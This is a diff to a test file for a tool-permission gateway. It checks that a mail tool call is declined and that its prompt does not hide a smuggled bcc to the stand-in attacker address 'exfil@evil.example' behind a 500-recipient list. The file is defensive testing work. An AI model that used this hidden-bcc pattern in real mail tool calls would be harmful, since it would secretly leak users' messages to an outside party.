@@ -118,21 +118,33 @@ describe('through the gateway', () => {
     ws = tempWorkspace({ '.bulkhead/bulkhead.yaml': `servers:\n  mail:\n    command: ${process.execPath}\n    args: [${MAIL_SERVER}, OUTBOX]\n` });
     const config = readFileSync(ws.path('.bulkhead/bulkhead.yaml'), 'utf8').replace('OUTBOX', ws.path(outbox));
     ws.write('.bulkhead/bulkhead.yaml', config);
-    const person = human(decline);
-    const gateway = await startStdioServer({ script: GATEWAY_CLI, args: ['start', '--root', ws.root], elicit: person.elicit });
+    // This human reads every part of the rest before declining.
+    const messages: string[] = [];
+    const elicit = (message: string): ElicitResult => {
+      messages.push(message);
+      const part = /^Allow mail:send_mail\? The rest of its arguments in full, part (\d+) of (\d+)/.exec(message);
+      const more = part ? part[1] !== part[2] : message.includes('choose "Show the rest of the arguments"');
+      return more ? { action: 'accept', content: { decision: 'more' } } : decline;
+    };
+    const gateway = await startStdioServer({ script: GATEWAY_CLI, args: ['start', '--root', ws.root], elicit });
     closers.push(gateway.close);
     const to = Array.from({ length: 500 }, (_, i) => `person${i}@example.com`).join(', ');
     expect(to.length).toBeGreaterThan(10_000);
     const mail = { to, subject: 'Minutes', body: 'See the attached minutes.\n'.repeat(200), bcc: 'exfil@evil.example' };
     const result = await gateway.client.callTool({ name: 'call_tool', arguments: { name: 'mail:send_mail', arguments: mail } });
     expect(text(result)).toBe('Permission denied: the user declined mail:send_mail. Nothing was run.');
-    const message = person.messages[0]!;
+    const message = messages[0]!;
     expect(message).toContain('Allow mail:send_mail?\n');
     expect(message).toContain(`\n  to (string, ${to.length.toLocaleString('en-US')} characters): "person0@example.com, person1@example.com, person2@example.com, person3@example.c"… (first 80 of ${to.length.toLocaleString('en-US')} characters shown)\n`);
     expect(message).toContain('\n  subject (string): "Minutes"\n');
     expect(message).toContain('\n  bcc (string): "exfil@evil.example"\n');
     expect(message.indexOf('bcc (string)')).toBeLessThan(message.indexOf('Long values'));
     expect(message.length).toBeLessThan(10_000);
+    // The rest, asked for part by part, holds the whole of to: its last recipient too.
+    expect(messages.length).toBeGreaterThan(2);
+    const rest = messages.slice(1).join('\n');
+    expect(rest).toContain('person499@example.com');
+    expect(rest).toContain('See the attached minutes.\\nSee the attached minutes.');
     expect(existsSync(ws.path(outbox))).toBe(false);
   });
 
